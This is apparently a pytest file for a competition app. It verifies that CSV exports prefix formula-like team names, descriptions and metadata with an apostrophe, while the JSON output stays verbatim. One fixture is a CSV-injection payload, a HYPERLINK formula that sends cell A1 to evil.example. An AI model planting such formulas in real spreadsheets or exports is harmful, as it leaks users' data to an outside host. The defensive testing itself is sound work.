"""The CSV exports open in a spreadsheet as data: a participant's team name, description or
metadata value that would start a formula there (CSV injection) is written as text, with a leading
apostrophe; the JSON keeps their words as they are."""

from __future__ import annotations

import csv
import doctest
import io
import json

from fastapi.testclient import TestClient

from app.services import csv_cells
from tests.app.conftest import World
from tests.app.teams.helpers import create_team, submit, team_mode

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_module_examples_hold() -> None:
    assert doctest.testmod(csv_cells).failed == 0


def test_every_formula_start_is_made_text_and_other_cells_are_left_alone() -> None:
    out = io.StringIO()
    csv_cells.Writer(out).writerow(
        ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "Owls", "a=b", -1.5, 3, None]
    )
    assert next(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [
        "'=1+1",
        "'+1",
        "'-1",
        "'@SUM(A1)",
        "'\tx",
        "\nx",
        "Owls",
        "a=b",
        "-1.5",
        "3",
        "",
    ]


def test_a_team_named_like_a_formula_is_text_in_both_exports_and_as_named_in_json(
    client: TestClient, world: World
) -> None:
    team_mode(world)
    alice = world.user("alice")
    assert create_team(client, world, alice, name=FORMULA).status_code == 201
    assert submit(client, world, alice).status_code == 201
    board = f"/api/v1/phases/{world.phase_id}/leaderboard"
    assert [row["participant"] for row in client.get(board).json()] == [FORMULA]
    exported = client.get(board, params={"format": "csv"})
    assert [row["participant"] for row in rows_of(exported.text)] == ["'" + FORMULA]
    submissions = client.get(
        f"/api/v1/phases/{world.phase_id}/exports/submissions.csv",
        headers=world.headers(world.organizer),
    )
    assert [row["team"] for row in rows_of(submissions.text)] == ["'" + FORMULA]


def test_a_description_and_metadata_like_formulas_are_text_in_the_comparison_csv(
    client: TestClient, world: World
) -> None:
    alice = world.user("alice")
    made = submit(
        client, world, alice, description="@SUM(1+1)", metadata=json.dumps({"seed": "-2+3"})
    )
    assert made.status_code == 201, made.text
    table = client.get(
        "/api/v1/compare",
        params={"submissions": str(made.json()["id"]), "format": "csv"},
        headers=world.headers(world.organizer),
    )
    (row,) = rows_of(table.text)
    assert (row["Description"], row["seed"]) == ("'@SUM(1+1)", "'-2+3")
